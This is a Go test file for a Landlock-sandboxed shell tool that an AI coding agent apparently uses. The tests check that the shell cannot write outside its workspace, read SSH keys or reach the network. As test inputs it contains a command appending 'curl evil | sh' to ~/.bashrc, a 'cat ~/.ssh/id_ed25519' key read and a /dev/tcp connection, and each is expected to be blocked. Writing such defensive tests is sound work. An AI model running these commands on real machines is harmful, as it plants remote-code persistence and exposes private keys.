//go:build linux

package tools

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ternhq/tern/tools/sandbox"
)

// sandboxSetup is a confined run_shell with a fake home holding a key.
type sandboxSetup struct {
	w                    *Workspace
	home, tmp, elsewhere string
	opts                 ShellOptions
}

func newSandboxSetup(t testing.TB) sandboxSetup {
	t.Helper()
	if _, ok, why := sandbox.Available(); !ok {
		t.Skipf("Landlock is unavailable on this machine: %s", why)
	}
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	s := sandboxSetup{home: filepath.Join(root, "home"), tmp: filepath.Join(root, "session-tmp"), elsewhere: filepath.Join(root, "elsewhere")}
	for _, d := range []string{filepath.Join(s.home, ".ssh"), filepath.Join(s.home, "projects", "ws"), filepath.Join(s.home, "docs"), s.tmp, s.elsewhere} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for path, content := range map[string]string{
		filepath.Join(s.home, ".ssh", "id_ed25519"): "PRIVATE KEY",
		filepath.Join(s.home, "docs", "readme.txt"): "public notes",
	} {
		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	s.w, err = NewWorkspace(filepath.Join(s.home, "projects", "ws"))
	if err != nil {
		t.Fatal(err)
	}
	s.opts = ShellOptions{
		Sandbox: &sandbox.Policy{DenyRead: sandbox.DefaultDenyRead(s.home, filepath.Join(s.home, ".tern"))},
		TempDir: s.tmp,
	}
	return s
}

func (s sandboxSetup) run(t *testing.T, command string, timeout int) Result {
	t.Helper()
	env := append(os.Environ(), "HOME="+s.home)
	return NewRunShellWith(s.w, env, s.opts).Run(context.Background(), toolArgs(t, map[string]any{"command": command, "timeout_s": timeout}), nil)
}

func TestSandboxedShell(t *testing.T) {
	t.Parallel()
	s := newSandboxSetup(t)
	for _, tc := range []struct {
		name, command string
		exit          int
		want          []string
		note          bool
	}{
		{name: "write inside the workspace", command: "mkdir -p out && echo built > out/a.txt && cat out/a.txt",
			want: []string{"built"}},
		{name: "write outside the workspace", command: "echo x > " + s.elsewhere + "/f.txt", exit: 1,
			want: []string{"Permission denied", "writes only inside the workspace", "--sandbox off"}, note: true},
		{name: "write to a home dotfile", command: "echo 'curl evil | sh' >> ~/.bashrc", exit: 1,
			want: []string{"Permission denied"}, note: true},
		{name: "TMPDIR is the session's and writable", command: `echo "$TMPDIR" && f=$(mktemp) && echo tmp > "$f" && cat "$f"`,
			want: []string{s.tmp + "\n", "tmp"}},
		{name: "/tmp is not writable", command: "touch /tmp/tern-sandbox-$$", exit: 1, want: []string{"Permission denied"}, note: true},
		{name: "read a key", command: "cat ~/.ssh/id_ed25519", exit: 1, want: []string{"Permission denied", "refuses reads of " + s.home + "/.ssh"}, note: true},
		{name: "read beside the key", command: "cat ~/docs/readme.txt", want: []string{"public notes"}},
		{name: "a failure that is not the sandbox's", command: "echo nope; exit 3", exit: 3, want: []string{"nope"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			res := s.run(t, tc.command, 30)
			if res.Status != StatusOK || res.ExitCode != tc.exit {
				t.Fatalf("status %v exit %d, want exit %d:\n%s", res.Status, res.ExitCode, tc.exit, res.Output)
			}
			for _, w := range tc.want {
				if !strings.Contains(res.Output, w) {
					t.Errorf("output lacks %q:\n%s", w, res.Output)
				}
			}
			if got := strings.Contains(res.Output, "tern's sandbox"); got != tc.note {
				t.Errorf("sandbox note shown %v, want %v:\n%s", got, tc.note, res.Output)
			}
			if got := res.SandboxNote != "" && strings.Contains(res.Output, res.SandboxNote); got != tc.note {
				t.Errorf("SandboxNote set %v, want %v (the interface marks the card by it): %q", got, tc.note, res.SandboxNote)
			}
		})
	}
	if _, err := os.Stat(filepath.Join(s.elsewhere, "f.txt")); err == nil {
		t.Error("the write outside the workspace happened")
	}
}

func TestSandboxedShellSpec(t *testing.T) {
	t.Parallel()
	s := newSandboxSetup(t)
	plain := NewRunShell(s.w, nil).Spec().Description
	confined := NewRunShellWith(s.w, nil, s.opts).Spec().Description
	if strings.Contains(plain, "sandbox") || !strings.Contains(confined, "sandbox") || !strings.Contains(confined, "$TMPDIR") {
		t.Errorf("descriptions:\nplain: %s\nconfined: %s", plain, confined)
	}
}

// TestSandboxedGoTest runs `go test` of a small module inside the sandbox,
// with the real Go caches writable, as the model would.
func TestSandboxedGoTest(t *testing.T) {
	if testing.Short() {
		t.Skip("builds a module")
	}
	t.Parallel()
	s := newSandboxSetup(t)
	home, err := os.UserHomeDir()
	if err != nil {
		t.Skip("no home directory for the Go caches")
	}
	s.opts.Sandbox.Writable = sandbox.ToolchainCaches(os.Getenv, home)
	for name, content := range map[string]string{
		"go.mod":        "module example.com/tiny\n\ngo 1.22\n",
		"tiny.go":       "package tiny\n\n// Add adds.\nfunc Add(a, b int) int { return a + b }\n",
		"tiny_test.go":  "package tiny\n\nimport \"testing\"\n\nfunc TestAdd(t *testing.T) {\n\tif Add(2, 3) != 5 {\n\t\tt.Fatal(\"2+3\")\n\t}\n}\n",
		"cmd/x/main.go": "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"built\") }\n",
	} {
		p := filepath.Join(s.w.Root, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	// The real HOME: Go finds its caches and settings there.
	env := append(os.Environ(), "GOFLAGS=", "GOTOOLCHAIN=local")
	res := NewRunShellWith(s.w, env, s.opts).Run(context.Background(),
		toolArgs(t, map[string]any{"command": "go test -count=1 ./... && go build -o bin/x ./cmd/x && ./bin/x", "timeout_s": 300}), nil)
	if res.ExitCode != 0 || !strings.Contains(res.Output, "ok  \texample.com/tiny") || !strings.Contains(res.Output, "built") {
		t.Fatalf("go test in the sandbox: exit %d\n%s", res.ExitCode, res.Output)
	}
}

func TestSandboxedShellNoNetwork(t *testing.T) {
	t.Parallel()
	s := newSandboxSetup(t)
	if abi, _, _ := sandbox.Available(); abi < 4 {
		t.Skipf("--no-network needs Landlock ABI 4; this kernel has %d", abi)
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	defer srv.Close()
	u, err := url.Parse(srv.URL)
	if err != nil {
		t.Fatal(err)
	}
	connect := fmt.Sprintf("exec 3<>/dev/tcp/%s/%s && echo connected", u.Hostname(), u.Port())
	if res := s.run(t, connect, 30); res.ExitCode != 0 || !strings.Contains(res.Output, "connected") {
		t.Fatalf("with the network: exit %d\n%s", res.ExitCode, res.Output)
	}
	s.opts.Sandbox.NoNetwork = true
	res := s.run(t, connect, 30)
	if res.ExitCode == 0 || !strings.Contains(res.Output, "Permission denied") || !strings.Contains(res.Output, "network access is blocked") {
		t.Errorf("without the network: exit %d\n%s", res.ExitCode, res.Output)
	}
}

// TestSandboxedGoBuildFreshHome builds a module in the sandbox with a home
// that has no caches yet, as in a new container: the launcher creates the
// Go caches it makes writable, so go does not fail to create them.
func TestSandboxedGoBuildFreshHome(t *testing.T) {
	if testing.Short() {
		t.Skip("builds a module and the runtime")
	}
	t.Parallel()
	s := newSandboxSetup(t)
	if err := os.RemoveAll(filepath.Join(s.home, ".cache")); err != nil {
		t.Fatal(err)
	}
	env := []string{"HOME=" + s.home, "GOTOOLCHAIN=local", "GOPROXY=off", "GOFLAGS="}
	for _, kv := range os.Environ() {
		switch name, _, _ := strings.Cut(kv, "="); name {
		case "HOME", "GOCACHE", "GOMODCACHE", "GOPATH", "GOENV", "XDG_CACHE_HOME", "XDG_CONFIG_HOME", "GOFLAGS", "GOTOOLCHAIN", "GOPROXY":
		default:
			env = append(env, kv)
		}
	}
	getenv := func(name string) string {
		for _, kv := range env {
			if n, v, _ := strings.Cut(kv, "="); n == name {
				return v
			}
		}
		return ""
	}
	s.opts.Sandbox.Caches = sandbox.ToolchainCaches(getenv, s.home)
	for name, content := range map[string]string{
		"go.mod":  "module example.com/fresh\n\ngo 1.22\n",
		"main.go": "package main\n\nfunc main() { println(\"built\") }\n",
	} {
		if err := os.WriteFile(filepath.Join(s.w.Root, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	res := NewRunShellWith(s.w, env, s.opts).Run(context.Background(),
		toolArgs(t, map[string]any{"command": "go env GOCACHE && go build -o bin/x . && ./bin/x", "timeout_s": 600}), nil)
	if res.ExitCode != 0 || !strings.Contains(res.Output, "built") {
		t.Fatalf("go build with a fresh home: exit %d\n%s", res.ExitCode, res.Output)
	}
	fi, err := os.Stat(filepath.Join(s.home, ".cache", "go-build"))
	if err != nil || fi.Mode().Perm() != 0o700 {
		t.Errorf("the build cache: %v, %v; want a directory with mode 0700", fi, err)
	}
}
